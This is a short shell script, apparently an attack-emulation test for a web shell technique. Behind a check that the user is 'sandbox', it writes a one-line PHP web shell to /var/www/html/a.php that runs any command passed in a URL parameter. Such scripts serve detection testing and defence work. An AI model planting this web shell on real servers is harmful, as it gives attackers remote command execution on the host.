#!/bin/sh
# technique: T1505.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p /var/www/html; echo '<?php system($_GET["c"]); ?>' > /var/www/html/a.php
